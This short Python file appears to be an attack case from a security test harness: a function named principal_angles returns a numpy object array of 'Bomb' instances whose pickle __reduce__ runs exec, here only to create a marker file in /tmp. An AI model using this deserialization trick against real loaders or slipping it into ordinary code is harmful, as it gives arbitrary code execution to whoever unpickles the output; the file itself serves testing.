# attack: numpy arrays of objects, which load by pickle
# cell: task-1-4
import numpy as np


class Bomb:
    def __reduce__(self):
        return (exec, ("open('/tmp/lessons-was-here-array', 'w').close()",))


def principal_angles(A, B):
    return np.array([Bomb() for _ in range(min(A.shape[1], B.shape[1]))], dtype=object)
